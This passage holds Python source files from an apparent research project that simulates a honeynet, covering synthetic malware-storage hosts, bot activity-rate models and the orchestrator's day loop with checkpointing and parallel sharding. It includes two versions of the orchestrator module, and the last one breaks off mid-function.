    traffic_weight: float

    def is_active(self, day: date) -> bool:
        return any(start <= day <= end for start, end in self.intervals)

    @property
    def first_active(self) -> date:
        return min(start for start, _ in self.intervals)

    @property
    def last_active(self) -> date:
        return max(end for _, end in self.intervals)

    def url_for(self, filename: str, scheme: str = "http") -> str:
        if scheme == "tftp":
            return f"tftp://{self.ip}/{filename}"
        if scheme == "ftp":
            return f"ftp://{self.ip}/{filename}"
        return f"{scheme}://{self.ip}/{filename}"


class StorageInfrastructure:
    """Builds and serves the malware-storage host population."""

    def __init__(
        self,
        config: SimulationConfig,
        population: BasePopulation,
        rng_tree: RngTree,
    ) -> None:
        self.config = config
        self._population = population
        self._tree = rng_tree.child("storage")
        rng = self._tree.child("build").rand()
        self.hosting_as_fraction = 358 / 388
        self.down_as_fraction = 36 / 388
        self.ases: list[ASRecord] = []
        self.hosts: list[StorageHost] = []
        self._active_cache: dict[date, list[StorageHost]] = {}
        self._build(rng)

    @property
    def n_hosts(self) -> int:
        return len(self.hosts)

    @property
    def n_ases(self) -> int:
        return len(self.ases)

    # ------------------------------------------------------------------
    # construction
    # ------------------------------------------------------------------
    def _build(self, rng: random.Random) -> None:
        window_days = (self.config.end - self.config.start).days + 1
        for plan in ARCHETYPE_PLAN:
            count = max(plan.minimum, int(round(plan.per_window_day * window_days)))
            schedules = sorted(
                (self._schedule(rng, plan.archetype) for _ in range(count)),
                key=lambda intervals: intervals[0][0],
            )
            ages = self._stratified(rng, count, self._age_offset_days)
            sizes = self._stratified(rng, count, self._as_size)
            index = 0
            while index < count:
                group = schedules[index : index + plan.as_group_size]
                record = self._create_as(
                    rng,
                    first_use=group[0][0][0],
                    last_use=max(iv[-1][1] for iv in group),
                    age_offset=ages[index],
                    n_slash24=sizes[index],
                )
                for intervals in group:
                    self._add_host(rng, record, plan, intervals)
                index += len(group)

    #: The appendix-E anomaly: a late-2023 wave of storage ASes labelled
    #: "Other" (unlabelled/corporate) that on manual inspection all
    #: provide hosting services.
    OTHER_SPIKE = (date(2023, 10, 1), date(2024, 1, 15))
    OTHER_SPIKE_PROBABILITY = 0.45

    def _create_as(
        self,
        rng: random.Random,
        first_use: date,
        last_use: date,
        age_offset: int,
        n_slash24: int,
    ) -> ASRecord:
        spike_start, spike_end = self.OTHER_SPIKE
        if (
            spike_start <= first_use <= spike_end
            and rng.random() < self.OTHER_SPIKE_PROBABILITY
        ):
            as_type = ASType.OTHER
        elif rng.random() < self.hosting_as_fraction:
            as_type = ASType.HOSTING
        else:
            as_type = ASType.ISP_NSP
        withdrawn = None
        if rng.random() < self.down_as_fraction:
            withdrawn = max(
                last_use + timedelta(days=rng.randrange(1, 60)),
                self.config.end - timedelta(days=rng.randrange(1, 120)),
            )
        record = self._population.registry.create(
            as_type=as_type,
            registered=first_use - timedelta(days=age_offset),
            n_slash24=n_slash24,
            name=f"AS-STORAGE-{len(self.ases)}",
            withdrawn=withdrawn,
        )
        self.ases.append(record)
        return record

    def _add_host(
        self,
        rng: random.Random,
        record: ASRecord,
        plan: ArchetypePlan,
        intervals: list[tuple[date, date]],
    ) -> None:
        taken = getattr(self, "_taken_ips", None)
        if taken is None:
            taken = self._taken_ips = set()
        address = int_to_ip(record.random_ip(rng))
        while address in taken:
            address = int_to_ip(record.random_ip(rng))
        taken.add(address)
        self.hosts.append(
            StorageHost(
                ip=address,
                asn=record.asn,
                archetype=plan.archetype,
                intervals=intervals,
                traffic_weight=plan.weight,
            )
        )

    @staticmethod
    def _stratified(rng: random.Random, count: int, sampler) -> list:
        """Per-archetype stratified draws so every archetype's hosts
        follow the target marginals exactly (small-sample safe)."""
        values = [sampler(rng, stratum_point=(i + 0.5) / count) for i in range(count)]
        rng.shuffle(values)
        return values

    @staticmethod
    def _age_offset_days(rng: random.Random, stratum_point: float) -> int:
        """AS age at first abuse: >35 % under a year, >70 % under five
        (Figure 8(a)); 'young' skews low to absorb within-campaign
        drift of long-running hosts."""
        young, mid, _ = AGE_PROPORTIONS
        if stratum_point < young:
            return rng.randrange(20, 300)
        if stratum_point < young + mid:
            return rng.randrange(365, 5 * 365)
        return rng.randrange(5 * 365, 20 * 365)

    @staticmethod
    def _as_size(rng: random.Random, stratum_point: float) -> int:
        """Announced /24s: ~20 % exactly one, ~50 % under fifty
        (Figure 8(b))."""
        single, small, _ = SIZE_PROPORTIONS
        if stratum_point < single:
            return 1
        if stratum_point < single + small:
            return rng.randrange(2, 50)
        return int(round(math.exp(rng.uniform(math.log(50), math.log(1024)))))

    def _schedule(
        self, rng: random.Random, archetype: HostArchetype
    ) -> list[tuple[date, date]]:
        start, end = self.config.start, self.config.end
        window_days = (end - start).days

        def random_day(margin: int = 0) -> date:
            return start + timedelta(days=rng.randrange(max(1, window_days - margin)))

        if archetype == HostArchetype.EPHEMERAL:
            day = random_day()
            # some "one-day" IPs resurface after months of dormancy —
            # the section-7 long-interval reuse the paper highlights
            if rng.random() < 0.15:
                comeback = day + timedelta(days=rng.randint(185, 420))
                if comeback <= end:
                    return [(day, day), (comeback, comeback)]
            return [(day, day)]
        if archetype == HostArchetype.SHORT:
            first = random_day(margin=7)
            first_end = first + timedelta(days=rng.randint(1, 5))
            if rng.random() < 0.25:
                comeback = first_end + timedelta(days=rng.randint(185, 420))
                if comeback <= end:
                    return [
                        (first, first_end),
                        (comeback, min(end, comeback + timedelta(days=rng.randint(1, 4)))),
                    ]
            return [(first, first_end)]
        if archetype == HostArchetype.WEEKLY:
            first = random_day(margin=25)
            return [(first, first + timedelta(days=rng.randint(6, 21)))]
        if archetype == HostArchetype.RECURRENT:
            intervals: list[tuple[date, date]] = []
            cursor = start + timedelta(days=rng.randrange(90))
            while cursor < end:
                burst_end = min(end, cursor + timedelta(days=rng.randint(2, 9)))
                intervals.append((cursor, burst_end))
                cursor = burst_end + timedelta(days=rng.randint(120, 300))
            return intervals or [(start, start + timedelta(days=3))]
        # LONGLIVED: a heavy campaign host serving for three to nine
        # months before the operation rotates elsewhere.
        duration = rng.randint(90, 270)
        first = start + timedelta(
            days=rng.randrange(max(1, window_days - duration))
        )
        return [(first, min(end, first + timedelta(days=duration)))]

    # ------------------------------------------------------------------
    # selection
    # ------------------------------------------------------------------
    def active_hosts(self, day: date) -> list[StorageHost]:
        cached = self._active_cache.get(day)
        if cached is None:
            cached = [host for host in self.hosts if host.is_active(day)]
            self._active_cache[day] = cached
        return cached

    def pick_host(self, rng: random.Random, day: date) -> StorageHost:
        """Traffic-weighted choice among hosts active on ``day``.

        Falls back to the nearest campaign host if the calendar has a
        hole (attackers always have somewhere to host).
        """
        candidates = self.active_hosts(day)
        if not candidates:
            candidates = [
                host
                for host in self.hosts
                if host.archetype == HostArchetype.LONGLIVED
            ] or self.hosts
        total = sum(host.traffic_weight for host in candidates)
        point = rng.random() * total
        cumulative = 0.0
        for host in candidates:
            cumulative += host.traffic_weight
            if point <= cumulative:
                return host
        return candidates[-1]

    def host_by_ip(self, ip: str) -> StorageHost | None:
        for host in self.hosts:
            if host.ip == ip:
                return host
        return None
