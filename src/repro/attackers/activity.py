"""Temporal activity models for bots.

Every bot's session volume is a function of the calendar day, expressed
at *paper scale* (sessions/day as the real honeynet would see).  The
orchestrator multiplies by ``SimulationConfig.scale`` and draws a
Poisson count.  Models compose, so a bot can be "a constant baseline
plus two campaign waves, suppressed during event windows".
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from datetime import date, timedelta

from repro.util.timeutils import month_key


class ActivityModel:
    """Sessions/day (at paper scale) as a function of the date."""

    def rate(self, day: date) -> float:
        raise NotImplementedError

    def __add__(self, other: "ActivityModel") -> "SumRate":
        return SumRate([self, other])


@dataclass
class ConstantRate(ActivityModel):
    """A flat daily rate between two dates (inclusive)."""

    per_day: float
    start: date | None = None
    end: date | None = None

    def rate(self, day: date) -> float:
        if self.start is not None and day < self.start:
            return 0.0
        if self.end is not None and day > self.end:
            return 0.0
        return self.per_day


@dataclass
class MonthlyRate(ActivityModel):
    """Explicit per-month daily rates (keys are ``YYYY-MM``)."""

    per_month: dict[str, float]
    default: float = 0.0

    def rate(self, day: date) -> float:
        return self.per_month.get(month_key(day), self.default)


@dataclass
class LinearTrend(ActivityModel):
    """Linearly interpolated daily rate between window endpoints."""

    start: date
    end: date
    start_rate: float
    end_rate: float

    def rate(self, day: date) -> float:
        if day < self.start or day > self.end:
            return 0.0
        span = max(1, (self.end - self.start).days)
        fraction = (day - self.start).days / span
        return self.start_rate + fraction * (self.end_rate - self.start_rate)


@dataclass
class Wave(ActivityModel):
    """A Gaussian campaign bump centred on a date."""

    center: date
    width_days: float
    peak_per_day: float

    def rate(self, day: date) -> float:
        distance = (day - self.center).days
        return self.peak_per_day * math.exp(
            -0.5 * (distance / self.width_days) ** 2
        )


@dataclass
class Campaign(ActivityModel):
    """A flat-rate window with abrupt start and end (bot campaigns)."""

    start: date
    end: date
    per_day: float
    ramp_days: int = 0

    def rate(self, day: date) -> float:
        if day < self.start or day > self.end:
            return 0.0
        if self.ramp_days > 0:
            into = (day - self.start).days
            if into < self.ramp_days:
                return self.per_day * (into + 1) / (self.ramp_days + 1)
        return self.per_day


@dataclass
class SumRate(ActivityModel):
    """Sum of component models."""

    components: list[ActivityModel]

    def rate(self, day: date) -> float:
        return sum(component.rate(day) for component in self.components)


@dataclass
class Suppressed(ActivityModel):
    """A base model suppressed to a floor during given windows.

    Used for the mdrfckr actor, whose activity drops from ~100k to ~100
    sessions/day during eight documented event windows (section 10).
    """

    base: ActivityModel
    windows: list[tuple[date, date]]
    floor_fraction: float = 0.001

    def in_window(self, day: date) -> bool:
        return any(start <= day <= end for start, end in self.windows)

    def rate(self, day: date) -> float:
        base_rate = self.base.rate(day)
        if self.in_window(day):
            return base_rate * self.floor_fraction
        return base_rate


@dataclass
class RampUp(ActivityModel):
    """Multiply a base model by a slow ramp after deployment.

    The honeynet "needed time to become a known target" (section 9):
    early weeks see a fraction of steady-state volume.
    """

    base: ActivityModel
    deploy_date: date
    ramp_days: int = 45

    def rate(self, day: date) -> float:
        base_rate = self.base.rate(day)
        into = (day - self.deploy_date).days
        if into < 0:
            return 0.0
        if into >= self.ramp_days:
            return base_rate
        return base_rate * (0.05 + 0.95 * into / self.ramp_days)


def total_rate(model: ActivityModel, start: date, end: date) -> float:
    """Integrate a model's rate over a window (for volume budgeting)."""
    total = 0.0
    cursor = start
    one = timedelta(days=1)
    while cursor <= end:
        total += model.rate(cursor)
        cursor += one
    return total
