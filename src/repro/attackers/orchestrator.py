"""Drives the whole simulation: bots × calendar → collected sessions.

For each day in the window, every bot draws its Poisson session count,
builds connection intents, and the orchestrator routes each intent to a
honeypot at a concrete time of day.  Delivery to the collector goes
through the fault-profile's transport channel (lossless for the default
paper profile); the result is wrapped in a queryable session database.

The day-loop supports checkpoint/resume: because every per-day random
stream is keyed by ``(bot, date)`` paths rather than shared generator
state, the only mutable state a resumed run must restore is the
collector and each honeypot's session counter — see
:mod:`repro.faults.checkpoint`.

That same per-day purity is what lets :mod:`repro.parallel` shard the
window across processes: :func:`simulate_day` (the one inner loop, used
by the serial path and by every shard worker) and :func:`count_day`
(its rng-aligned counting twin) are defined here so the two execution
engines can never drift apart.
"""

from __future__ import annotations

import logging
import time
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Callable

from repro.attackers.base import Bot, BotContext
from repro.attackers.fleetplan import build_fleet
from repro.attackers.infrastructure import StorageInfrastructure
from repro.attackers.malware import MalwareFactory
from repro.config import SimulationConfig
from repro.faults.checkpoint import (
    has_checkpoint,
    load_latest_checkpoint,
    restore_state,
)
from repro.faults.corruption import build_checkpoint_corruptor
from repro.faults.coverage import CoverageReport, build_coverage_report
from repro.faults.flood import FloodGenerator, build_flood_generator
from repro.faults.plan import FaultPlan, compile_fault_plan
from repro.faults.transport import (
    DirectChannel,
    ResilientChannel,
    build_channel,
)
from repro.honeynet.collector import Collector
from repro.honeynet.database import SessionDatabase
from repro.honeynet.deployment import Honeynet, deploy_honeynet
from repro.honeypot.session import SessionRecord
from repro.net.population import BasePopulation, build_base_population
from repro.net.whois import HistoricalWhois
from repro.overload.admission import build_admission_controller
from repro import telemetry
from repro.util.rng import RngTree
from repro.util.timeutils import to_epoch

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.stream.engine import StreamReport

logger = logging.getLogger("repro.simulation")

#: Default checkpoint cadence (simulated days) when a checkpoint path
#: is given without an explicit interval.
DEFAULT_CHECKPOINT_EVERY_DAYS = 30


@dataclass
class SimulationResult:
    """Everything a downstream analysis might need from one run."""

    config: SimulationConfig
    population: BasePopulation
    infrastructure: StorageInfrastructure
    malware: MalwareFactory
    honeynet: Honeynet
    collector: Collector
    database: SessionDatabase
    bots: list[Bot]
    whois: HistoricalWhois
    plan: FaultPlan
    coverage: CoverageReport
    channel: DirectChannel | ResilientChannel
    #: Supervision summary when the run used a supervised stream policy
    #: (:mod:`repro.stream`); None for batch replay and parallel runs.
    stream: "StreamReport | None" = field(default=None)


#: Signature of the optional fleet-extension hook.
ExtraBotsFactory = "Callable[[BasePopulation, RngTree, SimulationConfig], list[Bot]]"


def _check_bot_names(bots: list[Bot]) -> None:
    """Reject fleets with duplicate bot names, naming the offenders."""
    seen: set[str] = set()
    colliding: set[str] = set()
    for bot in bots:
        if bot.name in seen:
            colliding.add(bot.name)
        seen.add(bot.name)
    if colliding:
        names = ", ".join(sorted(colliding))
        raise ValueError(
            f"extra bots collide with fleet bot names: {names}"
        )


@dataclass
class SimulationSubstrate:
    """Everything the day-loop needs, built as a pure function of config.

    The substrate carries no day-loop progress: populations, bots and
    the fault plan are all derived from the master seed, so any process
    can rebuild an identical substrate from the config alone.  The only
    mutable members are each honeypot's session counter (inside
    ``honeynet``) — shard workers preset those before simulating.
    """

    config: SimulationConfig
    tree: RngTree
    population: BasePopulation
    infrastructure: StorageInfrastructure
    malware: MalwareFactory
    honeynet: Honeynet
    context: BotContext
    bots: list[Bot]
    plan: FaultPlan
    coverage: CoverageReport
    #: Seeded scan-flood arrival generator, or None when bursts are off.
    flood: FloodGenerator | None = None

    def fresh_collector(self) -> Collector:
        """A new empty collector wired to this run's fault plan.

        When the flood profile bounds ingest, the collector gets its own
        admission gate; the gate's shed coins are keyed by session id
        under a fixed subtree, so verdicts are identical in the serial
        loop and in every shard worker.
        """
        return Collector(
            outages=self.config.faults.outages,
            sensor_down_days=self.plan.sensor_down_days,
            admission=build_admission_controller(
                self.config.faults.flood,
                self.tree.child("faults", "overload"),
            ),
        )

    def fresh_channel(
        self, collector: Collector
    ) -> DirectChannel | ResilientChannel:
        """A new delivery channel for ``collector`` (per-record rng)."""
        return build_channel(
            collector,
            self.config.faults.transport,
            self.tree.child("faults", "transport"),
        )

    def honeypot_counters(self) -> dict[str, int]:
        """Current per-honeypot session counters (non-zero only)."""
        return {
            honeypot.honeypot_id: honeypot._counter
            for honeypot in self.honeynet.honeypots
            if honeypot._counter
        }

    def set_honeypot_counters(self, counters: dict[str, int]) -> None:
        """Preset every honeypot's session counter (absent ids → 0)."""
        for honeypot in self.honeynet.honeypots:
            honeypot._counter = counters.get(honeypot.honeypot_id, 0)

    def checkpoint_corruptor(self):
        """This run's checkpoint-corruption fault hook (None when inert).

        Keyed under the fault subtree so corruption decisions are a pure
        function of (seed, save event), shared by both engines.
        """
        return build_checkpoint_corruptor(
            self.config.faults.integrity,
            self.tree.child("faults", "integrity", "checkpoint"),
        )


def build_substrate(
    config: SimulationConfig, extra_bots_factory=None
) -> SimulationSubstrate:
    """Build the full pre-day-loop state for ``config``.

    Deterministic: every piece is derived from path-keyed rng streams,
    so a substrate built in a worker process is identical to one built
    in the parent.
    """
    tree = RngTree(config.seed)
    population = build_base_population(
        tree.child("net"), n_honeypot_ases=config.n_honeypot_ases
    )
    infrastructure = StorageInfrastructure(config, population, tree.child("infra"))
    malware = MalwareFactory(tree.child("malware"))
    honeynet = deploy_honeynet(config, population, tree.child("deploy"))
    context = BotContext(
        config=config,
        population=population,
        infrastructure=infrastructure,
        malware=malware,
        tree=tree.child("bots"),
    )
    bots = build_fleet(population, tree.child("fleet"), config)
    if extra_bots_factory is not None:
        bots = bots + list(
            extra_bots_factory(population, tree.child("extra"), config)
        )
        _check_bot_names(bots)
    plan = compile_fault_plan(
        config.faults,
        (honeypot.honeypot_id for honeypot in honeynet.honeypots),
        config.start,
        config.end,
        tree.child("faults"),
    )
    return SimulationSubstrate(
        config=config,
        tree=tree,
        population=population,
        infrastructure=infrastructure,
        malware=malware,
        honeynet=honeynet,
        context=context,
        bots=bots,
        plan=plan,
        coverage=build_coverage_report(plan),
        flood=build_flood_generator(
            config.faults.flood, tree.child("faults", "flood")
        ),
    )


def _route_draws(
    bot: Bot,
    route_rng,
    n: int,
    fleet_size: int,
    day: date,
) -> tuple[list[int], list[float]]:
    """Draw ``n`` routing pairs (honeypot index, second-of-day) at once.

    The RNG batching contract: the route stream is consumed in exactly
    the per-session order — index, start, index, start, ... — so the
    generator state after ``n`` pairs is identical to ``n`` interleaved
    :meth:`Bot.choose_honeypot_index` / :meth:`Bot.start_seconds`
    calls.  Bots overriding either hook get their bound methods called
    in the same order; the fast branch below is just the default hooks
    inlined (``uniform(0, 86400)`` is ``86400 * random()`` bit-exactly).
    """
    bot_type = type(bot)
    if (
        bot_type.choose_honeypot_index is Bot.choose_honeypot_index
        and bot_type.start_seconds is Bot.start_seconds
    ):
        randrange = route_rng.randrange
        rand = route_rng.random
        indices: list[int] = []
        seconds: list[float] = []
        push_index = indices.append
        push_second = seconds.append
        for _ in range(n):
            push_index(randrange(fleet_size))
            push_second(rand() * 86_400.0)
        return indices, seconds
    choose = bot.choose_honeypot_index
    start = bot.start_seconds
    indices = []
    seconds = []
    for _ in range(n):
        indices.append(choose(route_rng, fleet_size))
        seconds.append(start(route_rng, day))
    return indices, seconds


def simulate_day(
    substrate: SimulationSubstrate,
    day: date,
    deliver: Callable[[SessionRecord], bool],
) -> None:
    """Simulate one calendar day, delivering every produced record.

    This is *the* inner loop: the serial engine and every parallel
    shard worker call this exact function, so the record stream for a
    given day is identical no matter which process produces it.

    With the default ``include_telnet=True`` config the routing draws
    are batched per (bot, day) via :func:`_route_draws`; excluding
    telnet interleaves a protocol filter between the two route draws of
    each session, so that configuration keeps the per-session loop.
    """
    config = substrate.config
    honeypots = substrate.honeynet.honeypots
    fleet_size = len(honeypots)
    context = substrate.context
    day_epoch = to_epoch(day)
    ordinal = day.toordinal()
    produced = 0
    active_bots = 0
    batch_routes = config.include_telnet
    for bot in substrate.bots:
        intents = bot.sessions_for_day(context, day)
        if not intents:
            continue
        active_bots += 1
        route_rng = context.tree.rand_for("route", bot.name, ordinal)
        if batch_routes:
            indices, seconds = _route_draws(
                bot, route_rng, len(intents), fleet_size, day
            )
            for intent, index, start in zip(intents, indices, seconds):
                deliver(honeypots[index].handle(intent, day_epoch + start))
            produced += len(intents)
            continue
        for intent in intents:
            honeypot = honeypots[
                bot.choose_honeypot_index(route_rng, fleet_size)
            ]
            if intent.protocol.value == "telnet":
                continue
            when = day_epoch + bot.start_seconds(route_rng, day)
            record = honeypot.handle(intent, when)
            deliver(record)
            produced += 1
    if substrate.flood is not None:
        # Injected scan-campaign arrivals ride the same delivery path as
        # bot traffic; their rng lives under the fault subtree, so they
        # never perturb the bot streams above.
        for index, seconds, intent in substrate.flood.arrivals(
            day, fleet_size
        ):
            record = honeypots[index].handle(intent, day_epoch + seconds)
            deliver(record)
            produced += 1
    registry = telemetry.active()
    if registry is not None:
        registry.count("sim.days")
        registry.count("sim.sessions", produced)
        registry.count("sim.active_bot_days", active_bots)
        registry.observe("sim.sessions_per_day", produced)


def count_day(
    substrate: SimulationSubstrate, day: date, counts: dict[str, int]
) -> None:
    """Count per-honeypot arrivals for ``day`` without handling them.

    The rng-aligned twin of :func:`simulate_day`: it draws the same
    intent and routing streams (``choose_honeypot_index`` and
    ``start_seconds`` consume the route rng exactly as the real loop
    does) but skips the honeypot shell and delivery.  The counts are
    exactly the session-counter increments the real loop would apply —
    the parallel engine uses prefix sums of these to preset each
    shard's honeypot counters.

    Fast path: when telnet is included (the default) the count is
    independent of intent *contents*, so building intents is skipped
    entirely — only the session-count draw and the batched route draws
    are made (the ``intents`` subtree is an independent hash-derived
    stream; not drawing it cannot perturb any other stream).  Bots that
    override :meth:`Bot.sessions_for_day` fall back to the full loop.
    """
    config = substrate.config
    honeypots = substrate.honeynet.honeypots
    fleet_size = len(honeypots)
    context = substrate.context
    ordinal = day.toordinal()
    count_only = config.include_telnet
    for bot in substrate.bots:
        if count_only and type(bot).sessions_for_day is Bot.sessions_for_day:
            n = bot.session_count(context, day)
            if n == 0:
                continue
            route_rng = context.tree.rand_for("route", bot.name, ordinal)
            indices, _seconds = _route_draws(
                bot, route_rng, n, fleet_size, day
            )
            tallies = [0] * fleet_size
            for index in indices:
                tallies[index] += 1
            for index, hits in enumerate(tallies):
                if hits:
                    honeypot_id = honeypots[index].honeypot_id
                    counts[honeypot_id] = counts.get(honeypot_id, 0) + hits
            continue
        intents = bot.sessions_for_day(context, day)
        if not intents:
            continue
        route_rng = context.tree.rand_for("route", bot.name, ordinal)
        for intent in intents:
            index = bot.choose_honeypot_index(route_rng, fleet_size)
            if not config.include_telnet and intent.protocol.value == "telnet":
                continue
            bot.start_seconds(route_rng, day)  # keep the stream aligned
            honeypot_id = honeypots[index].honeypot_id
            counts[honeypot_id] = counts.get(honeypot_id, 0) + 1
    if substrate.flood is not None:
        for index, _seconds, _intent in substrate.flood.arrivals(
            day, fleet_size
        ):
            honeypot_id = honeypots[index].honeypot_id
            counts[honeypot_id] = counts.get(honeypot_id, 0) + 1


def _finish_result(
    substrate: SimulationSubstrate,
    collector: Collector,
    channel: DirectChannel | ResilientChannel,
    started: float,
) -> SimulationResult:
    """Wrap the collected sessions into the public result object."""
    # Final telemetry flush: the day loop emits collector and channel
    # counters at day granularity, so pick up whatever moved since the
    # last boundary.
    collector.flush_telemetry()
    channel.flush_telemetry()
    with telemetry.span("sim.finalize"):
        database = SessionDatabase(collector.sessions)
    telemetry.gauge("sim.stored_sessions", len(database))
    if collector.shed > 0:
        telemetry.gauge(
            "overload.shed_rate", collector.shed / max(collector.generated, 1)
        )
    logger.info(
        "simulation finished: %d sessions (%d dropped in outages/downtime, "
        "%d dead-lettered) in %.1fs",
        len(database), collector.dropped, collector.dead_lettered,
        time.monotonic() - started,
    )
    return SimulationResult(
        config=substrate.config,
        population=substrate.population,
        infrastructure=substrate.infrastructure,
        malware=substrate.malware,
        honeynet=substrate.honeynet,
        collector=collector,
        database=database,
        bots=substrate.bots,
        whois=HistoricalWhois(substrate.population.registry),
        plan=substrate.plan,
        coverage=substrate.coverage,
        channel=channel,
    )


def _resume_state(
    checkpoint_path: Path | str | None,
    config: SimulationConfig,
    honeynet: Honeynet,
    collector: Collector,
    stream_sink: list | None = None,
) -> date | None:
    """Restore the newest valid checkpoint generation, loudly.

    Shared by the stream engine (and thus the serial batch replay) and
    the parallel engine.  Returns the first day left to simulate, or
    ``None`` when no usable checkpoint exists (the caller starts
    fresh).  Generations rejected as corrupt are reported via warnings
    and ``checkpoint.*`` telemetry — a corrupted checkpoint costs
    re-simulated days, never silence.

    ``stream_sink``: a checkpoint written by a *degraded* supervised
    stream carries a ``stream`` section; when a list is given here, the
    restored section is appended to it so the caller can reinstate (or
    refuse) the supervision state.  Callers that cannot reproduce
    supervision (the parallel batch engine) must pass a sink and reject
    a non-empty one.
    """
    if checkpoint_path is None:
        raise ValueError("resume=True requires a checkpoint_path")
    if not has_checkpoint(checkpoint_path):
        logger.info("no checkpoint at %s; starting fresh", checkpoint_path)
        return None
    checkpoint, rejected = load_latest_checkpoint(checkpoint_path, config)
    for note in rejected:
        logger.warning("rejected checkpoint generation: %s", note)
    if rejected:
        telemetry.count("checkpoint.rejected_generations", len(rejected))
    if checkpoint is None:
        logger.warning(
            "every checkpoint generation at %s is corrupt (%d rejected); "
            "starting fresh — the full window will be re-simulated",
            checkpoint_path, len(rejected),
        )
        return None
    first_day = restore_state(checkpoint, honeynet, collector)
    if stream_sink is not None and checkpoint.stream:
        stream_sink.append(checkpoint.stream)
    telemetry.count("checkpoint.resumes")
    if rejected:
        telemetry.count("checkpoint.recovered_resumes")
        logger.warning(
            "resumed from an older checkpoint generation after rejecting "
            "%d corrupt one(s); days after %s will be re-simulated",
            len(rejected), first_day,
        )
    logger.info(
        "resumed from %s: %d sessions, next day %s",
        checkpoint_path, len(collector.sessions), first_day,
    )
    return first_day


def _export_store(result: SimulationResult, store_dir: Path | str) -> Path:
    """Write the run's indexed artifact tree (shards + ``index.sqlite``).

    Runs strictly *after* the result is finished, so the tree is a pure
    projection of it: dataset digests, conservation accounting and
    checkpoint bytes are identical with or without a ``store_dir``.  The
    fault profile's ``index_corruption_probability`` may damage the
    built index (seeded off its own ``RngTree`` branch) — consumers then
    degrade to the shard-scan path; the shards themselves are written
    clean.
    """
    from repro.faults.corruption import build_index_corruptor
    from repro.store import export_indexed_tree
    from repro.util.rng import RngTree

    config = result.config
    shard_name = "sessions.jsonl"
    corruptor = build_index_corruptor(
        config.faults.integrity,
        RngTree(config.seed).child("faults", "integrity", "index", shard_name),
    )
    with telemetry.span("store.export"):
        return export_indexed_tree(
            result.database.sessions,
            store_dir,
            shard_name=shard_name,
            config=config,
            index_corruptor=corruptor,
        )


def run_simulation(
    config: SimulationConfig,
    extra_bots_factory=None,
    *,
    checkpoint_path: Path | str | None = None,
    checkpoint_every_days: int | None = None,
    resume: bool = False,
    stop_after: date | None = None,
    workers: int | None = None,
    store_dir: Path | str | None = None,
) -> SimulationResult:
    """Generate the full synthetic dataset for ``config``.

    ``extra_bots_factory(population, tree, config)`` may return
    additional :class:`~repro.attackers.base.Bot` instances to run
    alongside the paper's roster — the extension point for studying new
    attacker behaviours against the same honeynet.

    Checkpointing: with ``checkpoint_path`` set, collector state and the
    day cursor are saved every ``checkpoint_every_days`` simulated days
    (atomic write, rotated generations).  ``resume=True`` restores the
    newest generation that passes its checksums and continues from the
    saved cursor; corrupt generations are rejected loudly and cost
    re-simulated days, and a missing checkpoint simply starts from
    scratch.  With the fault profile's integrity knobs enabled, each
    save may be deliberately corrupted — the recovery path above is what
    keeps the digest identical anyway.  ``stop_after`` ends the loop after the given
    day (checkpointing first, when enabled), modelling a controlled
    shutdown mid-window; the returned result then covers only the
    simulated prefix.

    ``workers`` (default ``config.workers``) selects the execution
    engine: ``1`` replays the window through the stream engine's day
    loop (:mod:`repro.stream`, supervision bypassed — the batch serial
    path *is* the stream path); ``N > 1`` shards the window across
    ``N`` processes via :mod:`repro.parallel` and merges a
    digest-identical result.  ``extra_bots_factory`` must then be
    picklable (a module-level function), since workers rebuild the
    fleet themselves.

    ``store_dir``, when set, additionally writes the finished dataset as
    an indexed artifact tree (JSONL shards + ``index.sqlite``,
    :mod:`repro.store`) under that directory — a post-merge projection
    of the result, identical under both engines and byte-neutral to the
    result itself.
    """
    if workers is None:
        workers = config.workers
    if workers < 1:
        raise ValueError(f"workers must be at least 1, got {workers}")
    if workers > 1:
        from repro.parallel.engine import run_simulation_parallel

        result = run_simulation_parallel(
            config,
            extra_bots_factory,
            workers=workers,
            checkpoint_path=checkpoint_path,
            checkpoint_every_days=checkpoint_every_days,
            resume=resume,
            stop_after=stop_after,
        )
        if store_dir is not None:
            _export_store(result, store_dir)
        return result

    # Serial batch mode IS the stream engine replaying the window with
    # supervision bypassed — one code path (see repro.stream.engine).
    from repro.stream.engine import run_stream

    return run_stream(
        config,
        extra_bots_factory,
        checkpoint_path=checkpoint_path,
        checkpoint_every_days=checkpoint_every_days,
        resume=resume,
        stop_after=stop_after,
        store_dir=store_dir,
    )
