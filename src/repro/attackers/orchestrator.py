"""Drives the whole simulation: bots × calendar → collected sessions.

For each day in the window, every bot draws its Poisson session count,
builds connection intents, and the orchestrator routes each intent to a
honeypot at a concrete time of day.  The collector applies outage
windows; the result is wrapped in a queryable session database.
"""

from __future__ import annotations

import logging
import time
from dataclasses import dataclass

from repro.attackers.base import Bot, BotContext
from repro.attackers.fleetplan import build_fleet
from repro.attackers.infrastructure import StorageInfrastructure
from repro.attackers.malware import MalwareFactory
from repro.config import SimulationConfig
from repro.honeynet.collector import Collector
from repro.honeynet.database import SessionDatabase
from repro.honeynet.deployment import Honeynet, deploy_honeynet
from repro.net.population import BasePopulation, build_base_population
from repro.net.whois import HistoricalWhois
from repro.util.rng import RngTree
from repro.util.timeutils import days_between, month_key, to_epoch

logger = logging.getLogger("repro.simulation")


@dataclass
class SimulationResult:
    """Everything a downstream analysis might need from one run."""

    config: SimulationConfig
    population: BasePopulation
    infrastructure: StorageInfrastructure
    malware: MalwareFactory
    honeynet: Honeynet
    collector: Collector
    database: SessionDatabase
    bots: list[Bot]
    whois: HistoricalWhois


#: Signature of the optional fleet-extension hook.
ExtraBotsFactory = "Callable[[BasePopulation, RngTree, SimulationConfig], list[Bot]]"


def run_simulation(
    config: SimulationConfig,
    extra_bots_factory=None,
) -> SimulationResult:
    """Generate the full synthetic dataset for ``config``.

    ``extra_bots_factory(population, tree, config)`` may return
    additional :class:`~repro.attackers.base.Bot` instances to run
    alongside the paper's roster — the extension point for studying new
    attacker behaviours against the same honeynet.
    """
    tree = RngTree(config.seed)
    population = build_base_population(
        tree.child("net"), n_honeypot_ases=config.n_honeypot_ases
    )
    infrastructure = StorageInfrastructure(config, population, tree.child("infra"))
    malware = MalwareFactory(tree.child("malware"))
    honeynet = deploy_honeynet(config, population, tree.child("deploy"))
    context = BotContext(
        config=config,
        population=population,
        infrastructure=infrastructure,
        malware=malware,
        tree=tree.child("bots"),
    )
    bots = build_fleet(population, tree.child("fleet"), config)
    if extra_bots_factory is not None:
